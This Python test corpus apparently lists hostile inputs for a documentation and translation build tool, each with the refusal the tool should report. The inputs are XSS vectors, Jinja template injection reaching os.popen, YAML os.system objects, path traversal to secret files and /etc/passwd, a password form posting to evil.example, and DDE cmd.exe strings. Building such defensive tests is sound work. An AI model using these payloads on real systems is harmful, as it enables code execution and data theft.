"""The corpus: what a stranger might put into a chapter, a translation, a catalog of words, a register or sop.toml, and what for.

In a text, ``@@`` stands for ``pwned-<name>``: a word that may be read, and must not be run or be part of an address.
``@RUN@`` stands for a folder in which code that runs leaves a file of the payload's name; ``ran-<name>`` is what a template would say.
``found`` is the code of the finding that names the attack; "" where the text is harmless and is shown as it was typed.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "cycler.__init__.__globals__.os.popen('touch @RUN@/@NAME@').read()"
SAY = "{{ 'ran-' ~ '@NAME@' }}"
SCRIPT = "<script>alert('@@')</script>"


@dataclass(frozen=True, kw_only=True)
class Payload:
    """``gain``: script, file, code, setting, address. ``text`` is one msgstr if it has a ``position``, else a part of a chapter.

    What is ``alone`` is a chapter's whole text. What ``dangles`` leaves a link to nothing, with which no PDF is written at all.
    """

    name: str
    gain: str
    text: str
    found: str = ""
    position: str = ""
    alone: bool = False
    dangles: bool = False


def chapter(name: str, gain: str, found: str, text: str) -> Payload:
    return Payload(name=name, gain=gain, found=found, text=text, alone=text.startswith(("---", ":nosearch")), dangles=found == "myst.xref_missing" or "safe:1" in text)


def message(name: str, gain: str, found: str, position: str, text: str) -> Payload:
    return Payload(name=name, gain=gain, found=found, position=position, text=text)


CHAPTERS = [
    # HTML, wherever Markdown allows it
    chapter("script-block", "script", "refused.html", SCRIPT),
    chapter("script-inline", "script", "refused.html", f"Words {SCRIPT} and words."),
    chapter("image-onerror", "script", "refused.html", "Words <img src=x onerror=\"alert('@@')\"> and words."),
    chapter("svg-onload", "script", "refused.html", "<svg onload=\"alert('@@')\"></svg>"),
    chapter("iframe-srcdoc", "script", "refused.html", "<iframe srcdoc=\"<script>alert('@@')</script>\"></iframe>"),
    chapter("details-ontoggle", "script", "refused.html", "<details open ontoggle=\"alert('@@')\">x</details>"),
    chapter("html-link", "address", "refused.html", "Words <a href=\"javascript:alert('@@')\">here</a>."),
    chapter("html-base", "address", "refused.html", '<base href="https://evil.example/@@/">'),
    chapter("html-form", "script", "refused.html", '<form action="https://evil.example/@@"><input name="password"></form>'),
    chapter("html-in-heading", "script", "refused.html", f"### A heading {SCRIPT}\n\nText."),
    chapter("html-in-cell", "script", "refused.html", f":::{{list-table}} Caption\n* - {SCRIPT}\n  - cell\n:::"),
    chapter("html-in-pipe-table", "script", "refused.html", f"| head |\n|---|\n| {SCRIPT} |"),
    chapter("html-in-box-title", "script", "refused.html", f":::{{admonition}} Title {SCRIPT}\nText.\n:::"),
    chapter("html-in-box", "script", "refused.html", f":::{{note}}\n{SCRIPT}\n:::"),
    chapter("html-in-footnote", "script", "refused.html", f"Words.[^html-in-footnote]\n\n[^html-in-footnote]: Note {SCRIPT}"),
    chapter("html-in-term", "script", "refused.html", f"Term {SCRIPT}\n: Meaning."),
    chapter("html-in-field", "script", "refused.html", f"Words.\n\n:Who {SCRIPT}: somebody {SCRIPT}"),
    chapter("html-in-caption", "script", "refused.html", f":::{{figure}} ../images/plan.svg\n:alt: A plan.\n\nCaption {SCRIPT}\n:::"),
    chapter("html-comment", "script", "refused.html", f"<!-- --> {SCRIPT} <!-- -->"),
    chapter("comment-end", "script", "", f"% --> {SCRIPT}\n\nText."),
    chapter("comment-published", "file", "", "% CANARY-COMMENT: what one editor tells another\n\nText."),
    chapter("block-break", "script", "", f"Text.\n\n+++ --> {SCRIPT}\n\nText."),
    # blocks and roles that write HTML, read files or run code
    chapter("raw-html", "script", "refused.block", f"```{{raw}} html\n{SCRIPT}\n```"),
    chapter("raw-capital", "script", "refused.block", f"```{{RAW}} html\n{SCRIPT}\n```"),
    chapter("raw-arabic-name", "script", "refused.block", f"```{{خام}} html\n{SCRIPT}\n```"),
    chapter("raw-file", "file", "refused.block", "```{raw} html\n:file: ../../secret.txt\n```"),
    chapter("raw-url", "file", "refused.block", "```{raw} html\n:url: https://evil.example/@@\n```"),
    chapter("raw-in-a-box", "script", "refused.block", f"::::{{note}}\n```{{raw}} html\n{SCRIPT}\n```\n::::"),
    chapter("role-of-raw", "script", "refused.block", f"```{{role}} evil(raw)\n:format: html\n```\n\n{{evil}}`{SCRIPT}`"),
    chapter("raw-role", "script", "refused.role", f"Words {{raw}}`{SCRIPT}`."),
    chapter("eval-rst-raw", "script", "refused.block", f"```{{eval-rst}}\n.. raw:: html\n\n   {SCRIPT}\n```"),
    chapter("eval-rst-include", "file", "refused.block", "```{eval-rst}\n.. include:: ../../secret.txt\n```"),
    chapter("include", "file", "refused.block", "```{include} ../../secret.txt\n```"),
    chapter("include-literal", "file", "refused.block", "```{include} ../../secret.txt\n:literal:\n```"),
    chapter("literalinclude", "file", "refused.block", "```{literalinclude} ../../secret.txt\n```"),
    chapter("csv-file", "file", "docutils", "```{csv-table} Table\n:file: ../../secret.txt\n```"),
    chapter("csv-url", "file", "docutils", "```{csv-table} Table\n:url: file:///@ROOT@/secret.txt\n```"),
    chapter("figure-md", "script", "refused.block", "```{figure-md}\n<img src=\"x\" onerror=\"alert('@@')\">\n\nCaption\n```"),
    chapter("meta-refresh", "setting", "refused.block", "```{meta}\n:http-equiv=refresh: 0;url=https://evil.example/@@\n```"),
    chapter("only", "file", "refused.block", "```{only} secret\nWords for some readers.\n```"),
    chapter("math-href", "address", "refused.block", "```{math}\n\\href{javascript:alert('@@')}{x}\n```"),
    chapter("math-role", "address", "refused.role", "Words {math}`\\href{javascript:alert('@@')}{x}`."),
    chapter("index-entry", "setting", "refused.block", "```{index} @@\n```"),
    chapter("domain-block", "setting", "refused.block", "```{py:function} f(x)\n```"),
    chapter("default-role", "setting", "refused.block", "```{default-role} raw\n```"),
    chapter("sub-ref", "code", "refused.role", "Words {sub-ref}`wordcount-words`."),
    # front matter: MyST takes its settings from it
    chapter("front-substitution", "code", "refused.front-matter",
            f"---\nmyst:\n  enable_extensions: [substitution]\n---\n# Title\n\n{{{{ {RUN} }}}}"),
    chapter("front-substitutions-key", "code", "refused.front-matter",
            f"---\nmyst:\n  enable_extensions: [substitution]\nsubstitutions:\n  a: \"{SCRIPT}\"\n---\n# Title\n\n{{{{ a }}}}"),
    chapter("front-html-meta", "setting", "refused.front-matter",
            "---\nmyst:\n  html_meta:\n    \"http-equiv=refresh\": \"0;url=https://evil.example/@@\"\n---\n# Title"),
    chapter("front-url-scheme", "address", "refused.front-matter",
            "---\nmyst:\n  url_schemes:\n    safe:\n      url: \"javascript:alert('@@')\"\n---\n# Title\n\n[x](safe:1)"),
    chapter("front-fence", "script", "refused.front-matter",
            f"---\nmyst:\n  fence_as_directive: [raw]\n---\n# Title\n\n```raw html\n{SCRIPT}\n```"),
    chapter("front-yaml-object", "code", "refused.front-matter", "---\na: !!python/object/apply:os.system ['touch @RUN@/@NAME@']\n---\n# Title"),
    chapter("front-broken", "setting", "refused.front-matter", "---\nmyst: [\n---\n# Title"),
    chapter("front-orphan", "setting", "refused.front-matter", "---\norphan: true\n---\n# Title"),
    chapter("fields-nosearch", "setting", "refused.front-matter", ":nosearch: true\n:tocdepth: 0\n\n# Title nosearchword"),
    # templates
    chapter("jinja-text", "code", "", f"Words {SAY} and {{% for i in range(3) %}}x{{% endfor %}}."),
    chapter("jinja-heading", "code", "", f"### Heading {SAY}\n\nText {{{{ body }}}}."),
    chapter("jinja-block", "code", "", f"{SAY}\n\n{{{{ {RUN} }}}}"),
    chapter("format-attribute", "code", "refused.role", "Words {numref}`{number.__class__} <ch-acting>`."),
    chapter("format-width", "setting", "refused.role", "Words {numref}`{number:>9999999999} <ch-acting>`."),
    # addresses
    chapter("link-javascript", "address", "markup", "[x](javascript:alert('@@'))"),
    chapter("link-entity", "address", "markup", "[x](java&#115;cript&colon;alert('@@'))"),
    chapter("link-reference", "address", "", "[x]\n\n[x]: javascript:alert('@@')"),
    chapter("link-data", "address", "markup", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    chapter("link-vbscript", "address", "markup", "[x](VBScript:msgbox('@@'))"),
    chapter("link-file", "address", "markup", "[x](file:///etc/passwd)"),
    chapter("link-ftp", "address", "refused.address", "[x](ftp://evil.example/@@)"),
    chapter("autolink-office", "address", "refused.address", "<ms-word:ofe%7Cu%7Chttps://evil.example/@@.docm>"),
    chapter("autolink-search", "address", "refused.address", "<search-ms:query=@@>"),
    chapter("autolink-tel", "address", "refused.address", "<tel:@@>"),
    chapter("link-two-slashes", "address", "myst.xref_missing", "[x](//evil.example/@@)"),
    chapter("figure-target", "address", "refused.address", ":::{figure} ../images/plan.svg\n:alt: A plan.\n:target: javascript:alert('@@')\n\nCaption\n:::"),
    chapter("image-target-data", "address", "refused.address", ":::{image} ../images/plan.svg\n:alt: A plan.\n:target: data:text/html,@@\n:::"),
    chapter("figure-target-split", "address", "refused.address", ":::{figure} ../images/plan.svg\n:alt: A plan.\n:target: java script:alert('@@')\n:::"),
    chapter("figure-target-slashes", "address", "refused.address", ":::{figure} ../images/plan.svg\n:alt: A plan.\n:target: //evil.example/@@\n:::"),
    chapter("toctree-address", "address", "refused.address", "```{toctree}\nwords <javascript://%0aalert('@@')>\n```"),
    chapter("download-address", "address", "refused.path", "{download}`x <javascript://%0aalert('@@')>`"),
    # attributes
    chapter("abbr-quote", "script", "", "{abbr}`X (\" onmouseover=\"alert('@@'))`"),
    chapter("alt-quote", "script", "", ":::{image} ../images/plan.svg\n:alt: A \" onerror=\"alert('@@')\n:::"),
    chapter("title-quote", "script", "", "[x](https://example.org/ '\" onclick=\"alert(@@)')"),
    chapter("class-quote", "script", "", ":::{note}\n:class: a\" onclick=\"alert('@@')\nText.\n:::"),
    chapter("name-quote", "script", "", ":::{figure} ../images/plan.svg\n:name: a\" onclick=\"alert('@@')\n:alt: A plan.\n\nCaption\n:::"),
    chapter("label-quote", "script", "", "Text.\n\n(a\" onclick=\"alert('@@'))=\n### Heading\n\nText."),
    chapter("address-quote", "script", "", "[x](https://example.org/%22onclick=%22alert('@@')\"onclick=\"alert('@@'))"),
    chapter("code-heading", "script", "", "### The sign `<img src=x onerror=alert('@@')>`\n\nText."),
    chapter("code-fence-name", "script", "misc.highlighting_failure", "```html\" onload=\"alert('@@')\ncode\n```"),
    # files
    chapter("link-up", "file", "refused.path", "[x](../../secret.txt)"),
    chapter("link-path", "file", "refused.path", "[x](path:../../secret.txt)"),
    chapter("link-encoded", "file", "myst.xref_missing", "[x](..%2F..%2Fsecret.txt)"),
    chapter("link-project", "file", "myst.xref_missing", "[x](project:../../secret.txt)"),
    chapter("download-up", "file", "refused.path", "{download}`x <../../secret.txt>`"),
    chapter("download-root", "file", "refused.path", "{download}`x <//@ROOT@/secret.txt>`"),
    chapter("download-conf", "file", "refused.path", "{download}`x <../conf.py>`"),
    chapter("download-html", "script", "refused.path", "[x](../files/page.html)"),
    chapter("download-svg", "script", "refused.path", "[x](../images/script.svg)"),
    chapter("download-hidden", "file", "refused.path", "[x](../.hidden.txt)"),
    chapter("image-up", "file", "refused.path", "![x](../../secret.txt)"),
    chapter("image-root", "file", "refused.path", "![x](//@ROOT@/secret.txt)"),
    chapter("image-from-top", "file", "refused.path", "![x](/../secret.txt)"),
    chapter("image-pattern", "file", "refused.path", "![x](../../secret.*)"),
    chapter("image-text", "file", "refused.picture", "![x](../files/notes.txt)"),
    chapter("image-remote", "setting", "refused.path", "![x](https://evil.example/@@.png)"),
    chapter("image-data", "script", "refused.path", "![x](data:image/png;base64,AAAA)"),
    chapter("figure-up", "file", "refused.path", ":::{figure} ../../secret.txt\n:figwidth: image\n:alt: x\n\nCaption\n:::"),
    chapter("svg-script", "script", "refused.picture", "![x](../images/script.svg)"),
    chapter("svg-handler", "script", "refused.picture", "![x](../images/handler.svg)"),
    chapter("svg-foreign", "script", "refused.picture", "![x](../images/foreign.svg)"),
    chapter("svg-entity", "file", "refused.picture", "![x](../images/entity.svg)"),
    chapter("svg-href", "file", "refused.picture", "![x](../images/href.svg)"),
    chapter("svg-style", "setting", "refused.picture", "![x](../images/style.svg)"),
    # other languages that chapters become
    chapter("typst-read", "file", "", "\\#read(\"/nowhere-@@\") and \"); \\#read(\"/nowhere-@@\"); (\""),
    chapter("typst-unicode", "code", "", "\\\\u{22} \\\\\"; panic(\"@@\"); \" and \\#panic(\"@@\") and \\#eval(\"1\")"),
    chapter("typst-code", "code", "", "`\"); panic(\"@@\"); (\"`\n\n```\n\\\"); panic(\"@@\"); #panic(\"@@\")\n```"),
    chapter("typst-address", "code", "", "[x](https://example.org/\\\"\\);panic\\(@@\\))"),
    chapter("typst-alt", "code", "", ":::{image} ../images/plan.svg\n:alt: \\\"); panic(\"@@\"); (\\\n:::"),
    chapter("word-xml", "script", "", "\\</w:t>\\</w:r>\\<w:altChunk r:id=\"@@\"/> and ]]> and &lt;w:p&gt;"),
    chapter("word-field", "code", "", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"@@\" and { INCLUDETEXT \"@@\" } and =cmd|'/c @@'!A0"),
    chapter("control-characters", "script", "", "A\x0bB\x1bC\ufffeD\u202eE @@"),
]

FRONT = "---\\nmyst:\\n  enable_extensions: [substitution]\\n---\\n"
MESSAGES = [
    message("m-front-paragraph", "code", "", "paragraph", f"{FRONT}\\n{{{{ {RUN} }}}}"),
    message("m-front-title", "code", "", "title", f"{FRONT}\\n# {{{{ {RUN} }}}}"),
    message("m-front-term", "code", "", "term", f"{FRONT}\\n{{{{ {RUN} }}}}"),
    message("m-front-second", "code", "", "paragraph", f"نص\\n\\n{FRONT}\\n{{{{ {RUN} }}}}"),
    message("m-jinja", "code", "", "paragraph", f"نص {SAY} {{{{ body }}}}"),
    message("m-raw-fence", "script", "", "paragraph", f"نص\\n\\n```{{raw}} html\\n{SCRIPT}\\n```"),
    message("m-raw-first", "script", "", "paragraph", f"```{{raw}} html\\n<b>@@</b>{SCRIPT}\\n```"),
    message("m-include", "file", "", "paragraph", "نص\\n\\n```{include} ../../secret.txt\\n```"),
    message("m-eval-rst", "script", "", "paragraph", f"```{{eval-rst}}\\n.. raw:: html\\n\\n   {SCRIPT}\\n```"),
    message("m-literal-end", "script", "refused.html", "paragraph", f"نص {SCRIPT} ::"),
    *[
        message(f"m-html-{position}", "script", "refused.html", position, f"نص {SCRIPT}")
        for position in ("paragraph", "title", "term", "caption", "cell", "item", "box-title", "field", "footnote", "table-caption", "subtitle", "flow")
    ],
    message("m-html-second", "script", "refused.html", "paragraph", f"نص\\n\\n{SCRIPT}"),
    message("m-onerror", "script", "refused.html", "paragraph", "نص <img src=x onerror=\\\"alert('@@')\\\">"),
    message("m-alt", "script", "refused.html", "alt", f"نص \\\" onerror=\\\"alert('@@') {SCRIPT}"),
    message("m-toctree-caption", "script", "refused.html", "toctree", f"نص {SCRIPT}"),
    message("m-javascript", "address", "", "paragraph", "نص [x](javascript:alert('@@'))"),
    message("m-office", "address", "refused.address", "paragraph", "نص <ms-excel:ofe%7Cu%7Chttps://evil.example/@@.xlsm>"),
    message("m-ftp", "address", "refused.address", "title", "نص [x](ftp://evil.example/@@)"),
    message("m-image-up", "file", "refused.path", "paragraph", "نص ![x](../../secret.txt)"),
    message("m-image-remote", "setting", "refused.path", "caption", "نص ![x](https://evil.example/@@.png)"),
    message("m-image-svg", "script", "refused.picture", "cell", "نص ![x](../images/script.svg)"),
    message("m-link-path", "file", "refused.path", "paragraph", "نص [x](path:../../secret.txt)"),
    message("m-download", "file", "refused.path", "item", "نص {download}`x <../../secret.txt>`"),
    message("m-math", "address", "refused.role", "paragraph", "نص {math}`\\\\href{javascript:alert('@@')}{x}`"),
    message("m-raw-role", "script", "refused.role", "title", f"نص {{raw}}`{SCRIPT}`"),
    message("m-format", "code", "refused.role", "paragraph", "نص {numref}`{number.__class__} <ch-acting>`"),
    message("m-typst", "code", "", "paragraph", "نص \\\"); panic(\\\"@@\\\"); #panic(\\\"@@\\\") \\\\u{22}"),
    message("m-word", "script", "", "paragraph", "نص &lt;/w:t&gt;&lt;w:altChunk r:id='@@'/&gt;"),
]

# English word of the interface → its translation. Every one must be shown in English, with a finding at its line.
WORDS = {
    "Chapters": SCRIPT.replace("@@", "pwned-word-script"),
    "Language": "لغة\\\" onclick=\\\"alert('pwned-word-quote')",
    "On this page": "<img src=x onerror=alert('pwned-word-onerror')>",
    "Search in the text": "بحث\\\" autofocus onfocus=\\\"alert('pwned-word-focus')",
    "Build": "&lt;b&gt;",
    "Hide Search Matches": "`${alert('pwned-word-template')}`",
    "translated: %(done)s of %(all)s": "%(done)s %(secret)s",
    "Page %(page)s of %(pages)s": "%(page).99999999s %(pages)s",
    "Section %s": "%s {0.__class__}",
    "Draft: not approved by anyone": "100% مسودة",
}

# Strays below locales/, and what they hold.
STRAYS = {
    "ar/LC_MESSAGES/sphinx.js": "alert('pwned-stray-js')",
    "_interface/ar/LC_MESSAGES/sphinx.js": "alert('pwned-stray-js')",
    "ar/LC_MESSAGES/chapters/finding.mo": "@MO@",
    "_interface/ar/LC_MESSAGES/sphinx.mo": "@MO@",
    "ar/LC_MESSAGES/index.po.bak": "copy",
    "ar/LC_MESSAGES/tool.py": "print('pwned')",
    "ar/sphinx.po": 'msgid ""\nmsgstr ""\n',
}

DRAWINGS = {
    "script": "<script>alert('pwned-svg')</script>",
    "handler": "<rect width='9' height='9' onclick=\"alert('pwned-svg')\"/>",
    "foreign": "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src=\"javascript:alert('pwned-svg')\"/></body></foreignObject>",
    "href": "<image href='../../secret.txt' width='9' height='9'/>",
    "style": "<style>@import url(https://evil.example/pwned-svg.css);</style>",
    "entity": "<text>&leak;</text>",
}

# (what is put in place of what in sop.toml, the beginning of the finding)
TOML = [
    ('file = "neutral.docx"', 'file = "../../secret.docx"', "config letterheads.neutral.file"),
    ('file = "neutral.docx"', 'file = "/etc/passwd"', "config letterheads.neutral.file"),
    ('code = "TINY-SOP"', 'code = "../../X"', "config document.code"),
    ('version = "1.0"', 'version = "1.0/../../x"', "config document.version"),
    ("[languages.ckb]", '[languages."../x"]', "config languages"),
    ('en = "Tiny procedure"', "en = \"<script>alert('pwned')</script>\"", "config document.title.en"),
    ('name = "العربية"', "name = \"<img src=x onerror=alert('pwned')>\"", "config languages.ar.name"),
    ('en = "neutral letterhead"', 'en = "<b>pwned</b>"', "config letterheads.neutral.name.en"),
    ("[document]", '[document]\nextensions = ["evil"]', "config unknown key"),
]

# Registers that must be refused, each with the beginning of its finding.
REGISTERS = {
    "python-object": ("victim: {en: !!python/object/apply:os.system ['touch @RUN@/register']}\n", "register is no sound YAML"),
    "python-name": ("victim: {en: !!python/name:os.system }\n", "register is no sound YAML"),
    "python-module": ("victim: !!python/module:os\n", "register 'victim' has no fields"),
    "too-deep": ("victim: " + "[" * 3000 + "\n", "register is no sound YAML"),
    "no-text": ("victim: {en: [a], ar: 1, ckb: null}\n", "register term 'victim' lacks a language"),
}
